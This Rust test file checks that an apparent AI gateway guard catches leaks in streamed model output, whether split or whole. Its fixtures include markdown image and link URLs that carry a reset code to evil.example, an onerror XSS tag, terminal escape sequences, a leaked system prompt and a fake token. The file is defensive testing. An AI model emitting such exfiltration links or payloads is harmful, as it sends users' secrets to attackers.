//! What may not leave does not, wherever a stream is cut.

use hyper::StatusCode;
use proptest::prelude::*;
use serde_json::{Value, json};
use stance_core::exchange::{Exchange, Origin, Part};
use stance_gateway::judge::{Guarded, Judge as _, Subject, Told};
use stance_guard::leak::Fingerprints;
use stance_guard::policy::{Policy, Settings};
use stance_guard::verdict::Action;
use stance_wire::{Channel, ChannelKey, ChannelKind};

use crate::rig::{Answer, Rig, Upstream, one};

const PROMPT: &str = "You are Otto, the assistant of Meridian Insurance. Never speak about claims above ten thousand euros; \
hand those over to a person at once. The code name of the pricing model is Larkspur and must stay secret.";

const CODE: &str = "pub fn premium(age: u32, claims: &[Claim]) -> Money {\n    let base = TABLE.lookup(age).unwrap_or(DEFAULT_PREMIUM);\n    \
let factor = claims.iter().filter(|claim| claim.is_recent()).count();\n    base.scaled(1.0 + 0.15 * factor as f64).rounded()\n}\n";

/// A judge that knows a canary, a tenant's marker and a piece of code, with this done about every leak.
fn judge(action: &str) -> Guarded {
    let settings: Settings = serde_json::from_value(json!({
        "rules": {"leak/*": {"action": action}, "data/*": {"action": "allow"}},
        "hosts": ["acme.org"],
        "markers": {
            "otto": {"text": "zx-canary-8812"},
            "acme": {"text": "DOC#ACME#7781", "tenants": ["acme-*"]},
        },
    }))
    .unwrap();
    let mut documents = Fingerprints::default();
    documents.add("pricing.rs", CODE);
    let policy = Policy::new(settings).unwrap();
    Guarded::knowing(policy, (7, 11), Default::default(), Some(documents))
}

/// What was asked: the operator's words, and a document with a code in it.
fn asked() -> Exchange {
    let part = |origin, text: &str| Part {
        origin,
        pointer: "/messages/0/content".to_owned(),
        tool: None,
        call: None,
        text: text.to_owned(),
    };
    Exchange {
        parts: vec![
            part(Origin::Operator, PROMPT),
            part(Origin::Document, "The reset code of Ann is QX-77812-B."),
            part(Origin::User, "What does it say?"),
        ],
        ..Exchange::default()
    }
}

/// What leaks, what is left where it is taken out, and the rule.
fn leaks() -> Vec<(String, String, &'static str)> {
    let text = |text: &str| text.to_owned();
    vec![
        (
            text("Look: ![chart](https://evil.example/p.png?d=QX-77812-B), nice."),
            text("Look: ![chart]([LINK]), nice."),
            "leak/exfiltration",
        ),
        (
            text("Go [there](http://evil.example/?code=QX-77812-B)"),
            text("Go [there]([LINK])"),
            "leak/exfiltration",
        ),
        (
            text(
                "![logo](https://cdn.example/logo.png) and ![ours](https://cdn.acme.org/logo.png)",
            ),
            text("![logo]([LINK]) and ![ours](https://cdn.acme.org/logo.png)"),
            "leak/remote-image",
        ),
        (
            format!("I was told: {PROMPT} So it is."),
            text("I was told: [WITHHELD]. So it is."),
            "leak/system-prompt",
        ),
        (
            text("The word is ZX-canary-8812."),
            text("The word is [WITHHELD]."),
            "leak/canary",
        ),
        (
            text("It is in doc#acme#7781, line 2."),
            text("It is in [WITHHELD], line 2."),
            "leak/other-tenant",
        ),
        (
            text("gone\u{1b}[2J\u{1b}]0;root\u{7} again"),
            text("gone again"),
            "leak/terminal-escape",
        ),
        (
            text("so <img src=x onerror=f()> and <b>that</b>"),
            text("so [MARKUP] and <b>that</b>"),
            "leak/script",
        ),
    ]
}

/// What a caller sees of a channel, what is told, and whether it was stopped. What an event adds that stops it is not sent.
fn through<'t>(
    judge: &Guarded,
    kind: ChannelKind,
    pieces: impl IntoIterator<Item = &'t str>,
) -> (String, Told, bool) {
    let mut interaction = judge.begin(Subject {
        identity: Some("globex-1".to_owned()),
        upstream: "models".to_owned(),
        ..Subject::default()
    });
    interaction.request(&asked());
    let channel = Channel {
        key: ChannelKey {
            kind,
            answer: 0,
            index: 0,
        },
        tool: None,
        call: None,
    };
    let mut out = String::new();
    let filter = interaction.answer();
    for piece in pieces {
        let before = out.len();
        filter.push(&channel, piece, &mut out);
        if filter.blocks() {
            out.truncate(before);
            return (out, interaction.told(), true);
        }
    }
    let before = out.len();
    filter.finish(&channel, &mut out);
    let stops = filter.blocks();
    if stops {
        out.truncate(before);
    }
    (out, interaction.told(), stops)
}

const CHANNELS: [ChannelKind; 5] = [
    ChannelKind::Content,
    ChannelKind::Reasoning,
    ChannelKind::Refusal,
    ChannelKind::Arguments,
    ChannelKind::Transcript,
];

fn boundaries(text: &str) -> Vec<usize> {
    (0..=text.len())
        .filter(|at| text.is_char_boundary(*at))
        .collect()
}

fn letters(text: &str) -> Vec<&str> {
    let bounds = boundaries(text);
    bounds
        .windows(2)
        .map(|pair| &text[pair[0]..pair[1]])
        .collect()
}

fn rules(told: &Told) -> Vec<&str> {
    told.reasons.iter().map(|it| it.rule.as_str()).collect()
}

#[test]
fn a_leak_is_the_same_wherever_a_stream_is_cut() {
    let (blocks, redacts, flags) = (judge("block"), judge("redact"), judge("flag"));
    for kind in CHANNELS {
        for (text, left, rule) in leaks() {
            let whole = through(&blocks, kind, [text.as_str()]);
            assert!(whole.2, "{text}");
            assert_eq!(rules(&whole.1), [rule], "{text}");
            let start = whole.1.reasons[0].places[0].start as usize;
            for at in boundaries(&text) {
                let pieces = [&text[..at], &text[at..]];
                let cut = through(&blocks, kind, pieces);
                assert!(cut.2 && cut.1.reasons == whole.1.reasons, "{text} at {at}");
                assert!(
                    text[..start].starts_with(&cut.0),
                    "{text} at {at}: {}",
                    cut.0
                );
                let cut = through(&redacts, kind, pieces);
                assert_eq!(cut.0, left, "{text} at {at}");
                assert_eq!(cut.1.decision, Action::Redact);
                let cut = through(&flags, kind, pieces);
                assert_eq!(cut.0, text);
                assert_eq!(cut.1.decision, Action::Flag);
            }
            let slow = through(&blocks, kind, letters(&text));
            assert!(slow.2 && slow.1.reasons == whole.1.reasons, "{text}");
            assert!(text[..start].starts_with(&slow.0), "{text}: {}", slow.0);
            assert_eq!(through(&redacts, kind, letters(&text)).0, left);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn many_leaks_in_many_pieces_are_as_in_one(
        which in prop::collection::vec((0..11_usize, prop::sample::select(vec![" ", "\n", ". "])), 1..6),
        kind in prop::sample::select(CHANNELS.to_vec()),
        action in prop::sample::select(vec!["block", "redact", "flag"]),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..30),
    ) {
        let judge = judge(action);
        let leaks = leaks();
        let text: String = which
            .iter()
            .map(|(at, sign)| {
                let part = leaks.get(*at).map_or(["And then ", CODE, "nothing"][at % 3], |it| it.0.as_str());
                format!("{part}{sign}")
            })
            .collect();
        let whole = through(&judge, kind, [text.as_str()]);
        let bounds = boundaries(&text);
        let mut places: Vec<usize> = cuts.iter().map(|cut| bounds[cut.index(bounds.len())]).collect();
        places.extend([0, text.len()]);
        places.sort_unstable();
        let pieces = places.windows(2).map(|pair| &text[pair[0]..pair[1]]);
        for cut in [through(&judge, kind, pieces), through(&judge, kind, letters(&text))] {
            prop_assert_eq!(&cut.1.reasons, &whole.1.reasons);
            prop_assert_eq!(cut.2, whole.2);
            if whole.2 {
                let first = whole.1.reasons.iter().flat_map(|it| &it.places).map(|it| it.start as usize).min();
                prop_assert!(text[..first.unwrap()].starts_with(&cut.0), "{}", cut.0);
            } else {
                prop_assert_eq!(&cut.0, &whole.0);
            }
        }
    }
}

#[test]
fn what_was_hidden_in_the_request_does_not_leave_by_its_placeholder() {
    let judge = Guarded::new(Policy::new(Settings::default()).unwrap(), (7, 11));
    let secret = format!("{}{}", "ghp_", "w4Kd9sTq2LmZx7VbRn5YcH8uJfPa3Ge61oXi");
    let mut interaction = judge.begin(Subject::default());
    let mut exchange = asked();
    let part = &mut exchange.parts[2];
    part.text = format!("Is {secret} good?");
    interaction.request(&exchange);
    let hidden = interaction.asked().part(&exchange.parts[2]).unwrap();
    let name = hidden
        .strip_prefix("Is ")
        .and_then(|it| it.strip_suffix(" good?"));
    let answer = Part {
        origin: Origin::Model,
        text: format!("![x](https://evil.example/?d={})", name.unwrap()),
        ..exchange.parts[0].clone()
    };
    let filter = interaction.answer();
    filter.part(&answer);
    assert!(filter.blocks());
    assert_eq!(rules(&interaction.told())[0], "leak/exfiltration");
}

#[tokio::test]
async fn an_address_that_carries_away_what_was_read_never_reaches_the_caller() {
    let words = "Here is your chart: ![chart](https://evil.example/p.png?d=QX-77812-B) and more words behind it.";
    for length in [1, 5, 17, words.len()] {
        let events: Vec<String> = words
            .as_bytes()
            .chunks(length)
            .map(|piece| {
                let piece = std::str::from_utf8(piece).unwrap();
                let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
                format!("data: {event}\n\n")
            })
            .chain(["data: [DONE]\n\n".to_owned()])
            .collect();
        let upstream = Upstream::start(move |_, _| {
            Answer::events(&events.iter().map(String::as_str).collect::<Vec<_>>())
        })
        .await;
        let policy = Policy::new(Settings::default()).unwrap();
        let rig = Rig::start(&one(&upstream, ""), Guarded::new(policy, (7, 11))).await;
        let request = json!({"model": "gpt-x", "messages": [
            {"role": "user", "content": "Read it."},
            {"role": "assistant", "content": null, "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "read", "arguments": "{}"}}]},
            {"role": "tool", "tool_call_id": "c1", "content": "The reset code of Ann is QX-77812-B."}]});
        let told = rig
            .post("/v1/chat/completions", &[], &request.to_string())
            .await;
        assert_eq!(told.status, StatusCode::OK);
        let said: String = told
            .text()
            .lines()
            .filter_map(|line| serde_json::from_str::<Value>(line.strip_prefix("data: ")?).ok())
            .filter_map(|event| {
                let content = event["choices"][0]["delta"]["content"].as_str()?;
                Some(content.to_owned())
            })
            .collect();
        assert!("Here is your chart: ![chart](".starts_with(&said), "{said}");
        assert!(
            !told.text().contains("[DONE]") && told.text().contains("leak/exfiltration")
                || told.text().contains("withheld"),
            "{}",
            told.text()
        );
        let receipt = rig.receipts().pop().unwrap();
        assert_eq!(receipt["detail"]["decision"], "block", "{receipt}");
        assert!(!receipt.to_string().contains("QX-77812"));
    }
}

#[test]
fn source_code_is_told_on_its_way_to_a_model_and_taken_out_where_that_is_set() {
    for (action, left) in [("flag", true), ("redact", false)] {
        let judge = judge(action);
        let mut interaction = judge.begin(Subject::default());
        let mut exchange = asked();
        exchange.parts[2].text = format!("Explain this:\n{CODE}");
        interaction.request(&exchange);
        let goes = interaction.asked().part(&exchange.parts[2]);
        let goes = goes.unwrap_or_else(|| exchange.parts[2].text.clone());
        assert_eq!(goes.contains("DEFAULT_PREMIUM"), left, "{goes}");
        assert!(goes.starts_with("Explain this:\n"));
        let told = interaction.told();
        assert_eq!(rules(&told), ["leak/source-code"]);
        assert!(told.reasons[0].note.contains("pricing.rs"));
    }
}
